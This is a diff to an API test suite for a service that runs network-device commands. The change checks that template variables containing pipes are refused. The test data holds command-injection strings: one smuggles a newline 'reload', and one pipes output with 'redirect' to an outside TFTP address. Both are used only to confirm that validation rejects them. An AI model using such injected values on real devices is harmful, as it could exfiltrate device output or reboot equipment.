@@ -236,7 +236,7 @@ describe('running a command through the API', () => {
     });
   });
 
-  it('when variables are invalid, then 400 names each with suggestions; control characters are refused', async () => {
+  it('when variables are invalid, then 400 names each with suggestions; control characters and pipes are refused', async () => {
     const { id } = await command({
       name: 'intf',
       command: 'show interfaces <iface>',
@@ -266,6 +266,11 @@ describe('running a command through the API', () => {
       ...login,
       variables: { text: 'x\nreload' },
     });
+    const redirected = await admin().post(EXECUTE(textId), {
+      device_id: stack.devices['r1'],
+      ...login,
+      variables: { text: 'x | redirect tftp://10.0.0.9/out' },
+    });
 
     expect(wrong.status).toBe(400);
     expect(wrong.body.variables.iface[0]).toMatch(/GigabitEthernet9\/9/);
@@ -279,6 +284,10 @@ describe('running a command through the API', () => {
     expect(Object.keys(missing.body.variables)).toEqual(['iface']);
     expect(injected.status).toBe(400);
     expect(injected.body.variables.text[0]).toMatch(/line breaks or control characters/);
+    expect(redirected.status).toBe(400);
+    expect(redirected.body.variables.text[0]).toMatch(
+      /must not contain \| on this device's platform/,
+    );
   });
 
   it('when the body is malformed, then 400 names each field and nothing runs', async () => {
